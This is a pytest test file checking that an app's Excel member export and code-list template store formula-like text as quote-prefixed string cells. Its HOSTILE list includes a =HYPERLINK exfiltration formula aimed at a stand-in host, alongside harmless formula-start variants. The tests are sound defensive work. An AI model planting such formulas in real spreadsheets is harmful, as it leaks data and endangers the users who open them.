"""Spreadsheet formula injection: whatever text a record holds, the workbooks the app writes hold
it as text (openpyxl's string type, never a formula), read back from the real .xlsx files."""

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from app.excel.export import export_kind
from app.excel.template import CODES_SHEET, write_template
from app.excel.writing import looks_like_formula

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&C3,"详情")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "#N/A",
]


def _plant(db, values):
    """Names and notes as a hostile bundle or an old database could have stored them."""
    with db.session() as s:
        ids = s.execute(text("SELECT id FROM members WHERE deleted = 0 ORDER BY id LIMIT :n"),
                        {"n": len(values)}).scalars().all()
        for i, v in zip(ids, values):
            s.execute(text("UPDATE members SET name = :v, notes = :v WHERE id = :i"), {"v": v, "i": i})
    return ids


def _string_cells(ws):
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def test_hostile_names_and_notes_are_exported_as_text_cells(db, clerk, tmp_path):
    _plant(db, HOSTILE)
    out = tmp_path / "m.xlsx"
    export_kind(db, clerk, "members", out)
    ws = load_workbook(out).worksheets[0]
    header = [c.value for c in ws[2]]
    name_col, notes_col = header.index("姓名"), header.index("备注")
    found = {}
    for row in ws.iter_rows(min_row=3):
        for col in (name_col, notes_col):
            cell = row[col]
            if cell.value in HOSTILE:
                found.setdefault(cell.value, []).append(cell)
    assert set(found) == set(HOSTILE)
    for value, cs in found.items():
        for c in cs:
            assert c.data_type == "s", value
            assert not str(c.value).startswith("=") or c.data_type != "f"
    assert not any(c.data_type == "f" for c in _string_cells(ws))


def test_every_formula_start_gets_the_quote_prefix(db, clerk, tmp_path):
    _plant(db, HOSTILE)
    out = tmp_path / "m.xlsx"
    export_kind(db, clerk, "members", out)
    ws = load_workbook(out).worksheets[0]
    quoted = {c.value for c in _string_cells(ws) if c.quotePrefix}
    assert {v for v in HOSTILE if looks_like_formula(v)} <= quoted


def test_template_code_lists_hold_hostile_labels_as_text(db, admin, tmp_path):
    with db.session() as s:
        n = s.execute(text("UPDATE code_items SET label = '=2*3' WHERE table_key = 'ethnicity'"
                           " AND code = '01'")).rowcount
    if not n:
        pytest.skip("code labels come from the built-in table only")
    out = tmp_path / "t.xlsx"
    write_template(db, admin, "members", out)
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for c in _string_cells(ws)]
    assert any(c.value == "=2*3" and c.data_type == "s" for c in _string_cells(wb[CODES_SHEET]))
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_looking_text_is_recognised(value):
    assert looks_like_formula(value) or value == "#N/A"


@pytest.mark.parametrize("value", ["张三", "1-2 号楼", "a=b", "13800000000", ""])
def test_ordinary_text_is_left_alone(value):
    assert not looks_like_formula(value)
